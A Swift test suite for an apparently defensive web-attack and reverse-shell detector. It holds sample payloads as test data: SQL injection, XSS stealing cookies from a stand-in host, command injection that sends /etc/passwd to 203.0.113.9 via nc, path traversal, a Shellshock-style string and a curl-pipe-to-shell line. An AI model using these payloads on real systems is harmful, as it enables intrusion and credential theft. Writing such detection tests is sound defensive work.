import Analysis
import Flows
import Reports
import Terms
import Testing

@testable import Detection

/// What programs and people send all day, beside the attack that looks most like it.
@Suite struct EverydayWebTests {
  private func techniques(_ body: String, times: Int = 1) throws -> [String] {
    var story = try SessionStory(WebAttack(DetectionContext()))
    for _ in 0..<times {
      story.wait(20)
      try story.ask("POST /hooks/in\nContent-Type: application/json", body: body)
    }
    return story.finish().compactMap { $0.text("technique") }
  }

  static let posted = [
    ##"{"message":"fix: SELECT * FROM users WHERE id = ? instead of concat; drop table in test"}"##,
    ##"{"description":"<p>Dear all,</p><p onclick=\"void(0)\">The page shows <b>alert</b>.</p>"##
      + ##"<script src=\"https://cdn.example/x.js\"></script>"}"##,
    ##"{"commits":[{"message":"escape <script> in comments"},{"message":"say why"}]}"##,
    ##"{"path":"../assets/img/logo.png","href":"../../docs/index.html"}"##,
    ##"{"template":"Hello {{user.name}}, your order {{order.id}} is ${order.state}"}"##,
    ##"{"text":"ls -la /srv | grep conf"}"##,
    ##"{"channel":"ops","text":"curl -s http://x.example/health | sh; cat /etc/hosts"}"##,
    ##"{"msg":"$ cat access.log | sort | uniq -c; whoami"}"##,
    ##"{"text":"To list users run `cat /etc/passwd | cut -d: -f1`"}"##,
  ]

  @Test(arguments: posted) func whatHooksAndTicketsSayIsNoAttack(body: String) throws {
    #expect(try techniques(body, times: 6).isEmpty)
  }

  static let attacks = [
    (##"{"id":"7; drop table users--"}"##, "sqli"),
    (##"{"id":"x'; drop table users"}"##, "sqli"),
    (##"{"comment":"<b>hi</b><script src=//203.0.113.9/x.js></script>"}"##, "xss"),
    (##"{"comment":"hello <script> alert(document.cookie)"}"##, "xss"),
    (##"{"host":"8.8.8.8; cat /etc/passwd"}"##, "command-injection"),
    (##"{"cmd":"ls -la; cat /etc/passwd"}"##, "command-injection"),
    (##"{"text":"x; ls -la; cat /etc/passwd | nc 203.0.113.9 9"}"##, "command-injection"),
    (##"{"path":"../../../../etc/passwd"}"##, "traversal"),
  ]

  @Test(arguments: attacks) func whatLooksLikeItIsOne(body: String, technique: String) throws {
    #expect(try techniques(body) == [technique])
  }

  private func probes(_ client: String, beginning: String) throws -> [Report] {
    var story = try SessionStory(ServiceProbe(DetectionContext()))
    story.client = client
    for round in 0..<4 {
      for (server, port) in [(10, 21), (11, 22), (12, 25), (13, 80), (14, 80)] {
        story.wait(0.3)
        story.server = "10.10.1.\(server)"
        story.serverPort = UInt16(port)
        story.clientPort &+= 1
        if port == 80 {
          try story.ask("GET /health\nHost: www\nUser-Agent: checker")
          story.clientPort &+= 1
          try story.say(beginning, fromClient: true)
        } else if round < 2 {
          var closing = SessionClosing()
          closing.isEstablished = true
          closing.bytesIn = 40
          try story.tell(.closed(closing))
        }
      }
    }
    return story.finish()
  }

  @Test func anEmptyLineAsksOnlyWhetherAPortAnswers() throws {
    #expect(try probes("10.10.3.9", beginning: "\n").isEmpty)
    #expect(try probes("203.0.113.9", beginning: "\r\n\r\n").count == 1)
  }

  @Test func whoShipsLogsOfShellsHasNone() throws {
    for (text, answer, reports) in [
      ("<134>www: \"() { :; }\" uid=0(root) gid=0(root) groups=0(root)\n", "", 0),
      ("<134>www: uid=0(root) gid=0(root) groups=0(root)\n", "uname -a\n", 1),
      ("uid=0(root) gid=0(root) groups=0(root)\n", "", 1),
    ] {
      var story = try SessionStory(ReverseShell(DetectionContext()), port: 5514)
      (story.client, story.server) = ("10.10.1.10", "10.10.3.10")
      try story.say(text, fromClient: true)
      if !answer.isEmpty { try story.say(answer, fromClient: false) }
      #expect(story.finish().count == reports)
    }
  }
}
